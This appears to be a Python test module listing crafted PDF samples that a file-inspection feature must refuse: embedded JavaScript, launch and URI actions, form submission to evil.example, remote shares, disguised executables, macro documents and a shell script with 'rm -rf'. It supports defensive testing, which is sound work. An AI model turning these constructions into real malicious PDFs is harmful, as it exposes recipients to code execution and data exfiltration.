"""PDFs that must be refused, and the code of each refusal."""

from collections.abc import Mapping

from app.integrations.inspection import RefusalCode
from tests.integrations import file_samples as make
from tests.integrations.corpus.pdf_bytes import (
    annotation,
    attached,
    coded,
    document,
    field,
    link,
    opening,
    pages,
    restricted,
    script,
    stream,
)

ACTIVE, REMOTE = RefusalCode.ACTIVE_CONTENT, RefusalCode.REMOTE_CONTENT
Hostile = Mapping[str, tuple[bytes, RefusalCode]]

_ALERT = script(b"app.alert\\(1\\)")
_PLAIN = document()
_EXE = make.EXE
_MACROS = make.docx({"word/vbaProject.bin": make.compound({"VBA": b"x"})})

SCRIPTS: Hostile = {
    "script on opening": (opening(_ALERT), ACTIVE),
    "script on opening, apart": (opening(b"4 0 R", _ALERT), ACTIVE),
    "script in a stream": (opening(b"<</S/JavaScript/JS 4 0 R>>", stream(b"app.alert(1)")), ACTIVE),
    "script in a packed stream": (opening(b"<</S/JavaScript/JS 4 0 R>>", stream(b"x()", packed=True)), ACTIVE),
    "script in hexadecimal": (opening(b"<</S/JavaScript/JS<6170702E616C6572742831293B>>>"), ACTIVE),
    "script with coded names": (opening(b"<<%s%s%s(x)>>" % (coded(b"S"), coded(b"JavaScript"), coded(b"JS"))), ACTIVE),
    "script of the document": (document(catalog=b"/Names<</JavaScript<</Names[(a) %s]>>>>" % _ALERT), ACTIVE),
    "script of the document, apart": (
        document(_ALERT, catalog=b"/Names<</JavaScript<</Kids[<</Names[(a) 4 0 R]>>]>>>>"),
        ACTIVE,
    ),
    "script before printing": (document(catalog=b"/AA<</WP %s>>" % _ALERT), ACTIVE),
    "script of a page": (document(page=b"/AA<</O %s>>" % _ALERT), ACTIVE),
    "script of a page that only formats": (document(page=b"/AA<</C %s>>" % script(b"AFNumber_Format\\(2\\)")), ACTIVE),
    "script on a click": (link(_ALERT), ACTIVE),
    "script of a bookmark": (
        document(b"<</First 5 0 R/Last 5 0 R>>", b"<</Title(a)/A %s>>" % _ALERT, catalog=b"/Outlines 4 0 R"),
        ACTIVE,
    ),
    "script behind a harmless action": (opening(b"<</S/GoTo/D[3 0 R/Fit]/Next %s>>" % _ALERT), ACTIVE),
    "script in a list of next actions": (
        opening(b"<</S/Named/N/NextPage/Next[<</S/Hide/T(a)>> 4 0 R]>>", _ALERT),
        ACTIVE,
    ),
    "script in a field when it is entered": (field(b"/E %s" % script(b"AFNumber_Format\\(2\\)")), ACTIVE),
    "script in a field beside formatting": (
        field(b"/F %s" % script(b'AFNumber_Format\\(2,0,0,0,"",true\\);app.launchURL\\("http:x"\\)')),
        ACTIVE,
    ),
    "script in the argument of formatting": (
        field(b"/F %s" % script(b"AFNumber_Format\\(app.alert\\(1\\)\\)")),
        ACTIVE,
    ),
    "script that names another function": (field(b"/C %s" % script(b"AFMergeChange\\(event\\)")), ACTIVE),
    "script behind formatting": (
        field(b"/K <</S/JavaScript/JS(AFNumber_Keystroke\\(2\\))/Next %s>>" % _ALERT),
        ACTIVE,
    ),
    "script in a rendition": (annotation(b"/Subtype/Link/A<</S/Rendition/JS(x())>>"), ACTIVE),
    "script without a kind": (opening(b"<</JS(x\\(\\))>>"), ACTIVE),
    "script that nothing refers to": (document(_ALERT), ACTIVE),
    "script that no table names": (document(unlisted=b"99 0 obj%sendobj\n" % _ALERT), ACTIVE),
    "script defined again, off the table": (
        document(b"<</S/GoTo>>", catalog=b"/OpenAction 4 0 R").replace(
            b"xref\n0", b"4 0 obj%sendobj\nxref\n0" % _ALERT
        ),
        ACTIVE,
    ),
    "script under a key written twice": (opening(b"<</S/GoTo/S/JavaScript/JS(x\\(\\))>>"), ACTIVE),
    "script whose kind is written twice": (opening(b"<</S/JavaScript/S/GoTo/JS(x\\(\\))>>"), ACTIVE),
    "script with blank keys before": (
        document(b"<<" + b" x" * 40 + b"/S/JavaScript/JS(x)>>", catalog=b"/OpenAction 4 0 R"),
        RefusalCode.DAMAGED,
    ),
    "script in a string without end": (
        document(b"<</S/JavaScript/JS(x\\(\\)", catalog=b"/OpenAction 4 0 R"),
        RefusalCode.DAMAGED,
    ),
    "script nested too deeply to read": (
        document(b"[" * 600 + _ALERT + b"]" * 600, catalog=b"/OpenAction 4 0 R"),
        RefusalCode.TOO_COMPLEX,
    ),
    "script in an array of actions": (opening(b"[%s]" % _ALERT), ACTIVE),
    "script in UTF-16": (opening(b"<</S/JavaScript/JS<FEFF0078002800290029>>>"), ACTIVE),
    "script on the third page": (pages([b"", b"", b"/AA<</O %s>>" % _ALERT]), ACTIVE),
    "XFA form": (document(catalog=b"/AcroForm<</XFA(x)/Fields[]>>"), ACTIVE),
    "XFA form in parts": (document(stream(b"<x/>"), catalog=b"/AcroForm<</XFA[(x) 4 0 R]>>"), ACTIVE),
}

ACTIONS: Hostile = {
    "opens an address on opening": (opening(b"<</S/URI/URI(http://evil.example/)>>"), REMOTE),
    "opens an address, apart": (
        opening(b"4 0 R", b"<</S/URI/URI 5 0 R>>", b"(http://evil.example)"),
        REMOTE,
    ),
    "opens an address of a kind apart": (opening(b"<</S 4 0 R/URI(http://evil.example)>>", b"/URI"), REMOTE),
    "opens an address behind a harmless action": (
        opening(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://evil.example)>>>>"),
        REMOTE,
    ),
    "opens an address with a page": (document(page=b"/AA<</O<</S/URI/URI(http://evil.example)>>>>"), REMOTE),
    "opens an address when the mouse comes": (
        annotation(b"/Subtype/Widget/AA<</E<</S/URI/URI(http://evil.example)>>>>"),
        REMOTE,
    ),
    "opens a share on opening": (opening(b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>"), REMOTE),
    "opens a share with a page": (document(page=b"/AA<</O<</S/GoToR/F(//evil.example/x.pdf)/D[0/Fit]>>>>"), REMOTE),
    "opens a share, specified": (
        opening(b"<</S/GoToR/F<</Type/Filespec/F(//evil.example/x.pdf)>>/D[0/Fit]>>"),
        REMOTE,
    ),
    "opens a web file": (
        opening(b"<</S/GoToR/F<</FS/URL/F(http://evil.example/x.pdf)>>/D[0/Fit]>>"),
        REMOTE,
    ),
    "opens a neighbouring file on opening": (opening(b"<</S/GoToR/F(next.pdf)/D[0/Fit]>>"), REMOTE),
    "starts a program": (opening(b"<</S/Launch/F(cmd.exe)>>"), ACTIVE),
    "starts a program for Windows": (opening(b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"), ACTIVE),
    "starts a program on a click": (link(b"<</S/Launch/F(cmd.exe)>>"), ACTIVE),
    "opens a document on opening": (opening(b"<</S/Launch/F(next.pdf)>>"), ACTIVE),
    "opens a document with parameters": (link(b"<</S/Launch/Win<</F(a.doc)/P(/mMacro)>>>>"), ACTIVE),
    "prints a document": (link(b"<</S/Launch/Win<</F(a.doc)/O(print)>>>>"), ACTIVE),
    "opens a document of a share": (link(b"<</S/Launch/F(//evil.example/a.pdf)>>"), ACTIVE),
    "opens a program under a second name": (link(b"<</S/Launch/F<</F(a.pdf)/UF(a.exe)>>>>"), ACTIVE),
    "opens a program for Unix": (link(b"<</S/Launch/F(a.pdf)/Unix<</F(a.sh)>>>>"), ACTIVE),
    "opens a document without a name": (link(b"<</S/Launch>>"), ACTIVE),
    "sends a form": (link(b"<</S/SubmitForm/F(http://evil.example)>>"), ACTIVE),
    "sends a form on opening": (opening(b"<</S/SubmitForm/F(http://evil.example)>>"), ACTIVE),
    "sends a form, the kind apart": (opening(b"<</S 4 0 R/F(http://evil.example)>>", b"/SubmitForm"), ACTIVE),
    "reads data": (link(b"<</S/ImportData/F(x.fdf)>>"), ACTIVE),
    "opens an attached file": (link(b"<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>"), ACTIVE),
    "plays media": (link(b"<</S/Rendition/OP 0>>"), ACTIVE),
    "plays a film": (link(b"<</S/Movie/T(a)>>"), ACTIVE),
    "plays sound": (document(page=b"/AA<</O<</S/Sound>>>>"), ACTIVE),
    "shows a model": (link(b"<</S/GoTo3DView/V 0>>"), ACTIVE),
    "does something unknown": (link(b"<</S/Odd>>"), ACTIVE),
    "does something by text": (opening(b"<</S(JavaScript)>>"), ACTIVE),
    "a click after a click": (link(b"<</S/URI/URI(http://a.example)/Next<</S/Launch/F(cmd.exe)>>>>"), ACTIVE),
    "resets a form on opening": (opening(b"<</S/ResetForm>>"), ACTIVE),
    "a chain of actions": (
        opening(b"<</S/GoTo/Next " * 60 + b"null" + b">>" * 60),
        RefusalCode.TOO_COMPLEX,
    ),
    "a film": (annotation(b"/Subtype/Movie/Movie<</F(x.avi)>>"), ACTIVE),
    "sound": (annotation(b"/Subtype/Sound"), ACTIVE),
    "a screen": (annotation(b"/Subtype/Screen"), ACTIVE),
    "a model": (annotation(b"/Subtype/3D"), ACTIVE),
    "rich media": (annotation(b"/Subtype/RichMedia/RichMediaContent<<>>"), ACTIVE),
    "rich media in code": (annotation(b"/Subtype" + coded(b"RichMedia")), ACTIVE),
    "a screen, its kind apart": (annotation(b"/Subtype 4 0 R", b"/Screen"), ACTIVE),
}

OUTSIDE: Hostile = {
    "stream of another file": (document(b"<</Length 0/F(x.bin)>>stream\n\nendstream"), REMOTE),
    "stream of a share": (document(b"<</Length 0/F<</F(//evil.example/x)>>>>stream\n\nendstream"), REMOTE),
    "stream of the web": (document(b"<</Length 0/F<</FS/URL/F(http://x.example)>>>>stream\n\nendstream"), REMOTE),
    "page of another file": (
        document(stream(b"", b"/Subtype/Form/Ref<</F(//evil.example/x)/Page 0>>")),
        REMOTE,
    ),
    "filter of another file": (document(b"<</Length 0/FFilter/FlateDecode>>stream\n\nendstream"), REMOTE),
}

ATTACHMENTS: Hostile = {
    "attached program": (attached(_EXE, b"/F(a.exe)"), ACTIVE),
    "attached program named as text": (attached(_EXE, b"/F(a.txt)"), ACTIVE),
    "attached text named as a program": (attached(b"echo 1", b"/F(a.bat)"), ACTIVE),
    "attached text of two names": (attached(b"echo 1", b"/F(a.txt)/UF(a.bat)"), ACTIVE),
    "attached text named for Unix": (attached(b"echo 1", b"/F(a.txt)/Unix(a.sh)"), ACTIVE),
    "attached text with a hidden end": (
        attached(b"echo 1", b"/UF<FEFF0061002E0062006100740020>"),
        ACTIVE,
    ),
    "attached shell script as text": (attached(b"#!/bin/sh\nrm -rf x\n", b"/F(a.txt)"), ACTIVE),
    "attached web page": (attached(make.HTML, b"/F(a.txt)"), ACTIVE),
    "attached web page as XML": (
        attached(b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', b"/F(a.xml)"),
        ACTIVE,
    ),
    "attached picture with a script": (attached(b"<svg><script>x()</script></svg>", b"/F(a.svg)"), ACTIVE),
    "attached XML with a style": (
        attached(b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>', b"/F(a.xml)"),
        ACTIVE,
    ),
    "attached document with macros": (attached(_MACROS, b"/F(a.docx)"), ACTIVE),
    "attached PDF with a script": (attached(opening(_ALERT), b"/F(a.pdf)"), ACTIVE),
    "attached PDF in a PDF with a script": (attached(attached(opening(_ALERT), b"/F(a.pdf)"), b"/F(b.pdf)"), ACTIVE),
    "attached three deep": (
        attached(attached(attached(b"text", b"/F(a.txt)"), b"/F(a.pdf)"), b"/F(b.pdf)"),
        ACTIVE,
    ),
    "attached archive": (attached(make.archive({"a.txt": "x"}), b"/F(a.zip)"), ACTIVE),
    "attached PDF that needs a password": (attached(restricted(_PLAIN, password="secret"), b"/F(a.pdf)"), ACTIVE),
    "attached by an annotation": (
        document(
            b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
            stream(_EXE, b"/Type/EmbeddedFile"),
            page=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]",
        ),
        ACTIVE,
    ),
    "attached without a specification": (document(stream(_EXE, b"/Type/EmbeddedFile")), ACTIVE),
    "attached as a related file": (
        document(b"<</Type/Filespec/F(a.txt)/RF<</F[(a.exe) 5 0 R]>>>>", stream(_EXE)),
        ACTIVE,
    ),
    "attached under another system's key": (
        document(b"<</Type/Filespec/F(a.txt)/EF<</F 5 0 R/Unix 6 0 R>>>>", stream(b"x"), stream(_EXE)),
        ACTIVE,
    ),
    "attached with an unknown filter": (
        document(b"<</F(a.txt)/EF<</F 5 0 R>>>>", stream(b"x", b"/Filter/Odd")),
        ACTIVE,
    ),
    "an encrypted document in a wrapper": (
        attached(b"x", b"/F(a.pdf)", specification=b"/AFRelationship/EncryptedPayload"),
        RefusalCode.ENCRYPTED,
    ),
}

SHAPE: Hostile = {
    "web page before": (make.HTML + _PLAIN, RefusalCode.DISGUISED),
    "program before": (_EXE + _PLAIN, RefusalCode.DISGUISED),
    "shell script before": (b"#!/bin/sh\necho\n" + _PLAIN, RefusalCode.DISGUISED),
    "web page in a comment": (_PLAIN[:9] + b"%" + make.HTML + b"\n" + _PLAIN[9:], RefusalCode.DISGUISED),
    "archive behind": (_PLAIN + make.archive({"x.exe": _EXE}), RefusalCode.DISGUISED),
    "archive behind, end mark again": (_PLAIN + make.docx() + b"\n%%EOF\n", RefusalCode.DISGUISED),
    "archive behind, beside an attached one": (
        attached(make.docx(), b"/F(a.docx)") + make.docx({"word/x.xml": "<a/>"}),
        RefusalCode.DISGUISED,
    ),
    "script and an archive behind": (opening(_ALERT) + make.archive({"x.exe": _EXE}), ACTIVE),
    "header only": (b"%PDF-1.7\n", RefusalCode.DAMAGED),
    "cut short": (_PLAIN[: len(_PLAIN) // 2], RefusalCode.DAMAGED),
    "noise within": (b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF\n", RefusalCode.DAMAGED),
    "much behind the end": (_PLAIN + b"x" * 5000, RefusalCode.DAMAGED),
    "no page": (
        make.plain_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]),
        RefusalCode.DAMAGED,
    ),
    "pages in a circle": (
        make.plain_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
        RefusalCode.DAMAGED,
    ),
    "password": (restricted(_PLAIN, password="secret"), RefusalCode.ENCRYPTED),
    "unknown encryption": (
        make.plain_pdf(make.page_objects(), trailer=b"/Root 1 0 R/Encrypt<</Filter/Odd/V 9>>"),
        RefusalCode.ENCRYPTED,
    ),
    "rights management": (
        make.plain_pdf(make.page_objects(), trailer=b"/Root 1 0 R/Encrypt<</Filter/MicrosoftIRMServices/V 1>>"),
        RefusalCode.ENCRYPTED,
    ),
}

HOSTILE: Hostile = {**SCRIPTS, **ACTIONS, **OUTSIDE, **ATTACHMENTS, **SHAPE}
